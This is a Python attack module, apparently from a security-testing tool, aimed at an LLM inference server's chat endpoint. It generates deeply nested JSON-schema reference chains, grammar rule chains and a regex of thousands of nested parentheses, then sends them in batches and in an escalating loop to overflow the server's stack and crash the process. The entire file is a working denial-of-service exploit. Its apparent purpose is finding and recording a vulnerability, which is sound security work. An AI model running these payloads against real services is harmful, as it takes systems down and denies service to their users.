"""Schemas and grammars that overflow the stack of whoever compiles them, asked and in batches."""

from typing import Any

from tools.attacks.target import AttackTarget
from tools.attacks.uploads import CHAT, batch, lines

FINDING = "7: a schema or grammar ends the process, and comes back as a batch line"

LINKS, RULES = 1010, 2680
MESSAGES = [{"role": "user", "content": "Hello"}]


async def attack(target: AttackTarget) -> None:
    """Deeper ones each time: what is refused at one depth may not be at another."""
    async with target.client() as client:
        if await target.turn():
            await batch(target, client, lines([body | {"max_tokens": 4} for body in bodies(1)]))
        factor = 1
        while await target.turn():
            for body in bodies(factor):
                await target.post(client, CHAT, body | {"messages": MESSAGES, "max_tokens": 4})
            factor = factor % 4 + 1


def bodies(factor: int) -> list[dict[str, Any]]:
    """A chat request for each kind of depth."""
    return [
        {"messages": MESSAGES, "guided_json": linked(LINKS * factor)},
        {"messages": MESSAGES, "guided_grammar": ruled(RULES * factor)},
        {"messages": MESSAGES, "guided_regex": "(" * 2000 * factor + "a" + ")" * 2000 * factor},
    ]


def linked(length: int) -> dict[str, Any]:
    """A schema that is a chain of references."""
    links: dict[str, Any] = {f"d{i}": {"$ref": f"#/$defs/d{i + 1}"} for i in range(length)}
    return {"$defs": {**links, f"d{length}": {"type": "integer"}}, "$ref": "#/$defs/d0"}


def ruled(length: int) -> str:
    """A grammar that is a chain of rules."""
    rules = [f"r{i}: r{i + 1}" for i in range(length)]
    return "\n".join(["start: r0", *rules, f'r{length}: "a"'])
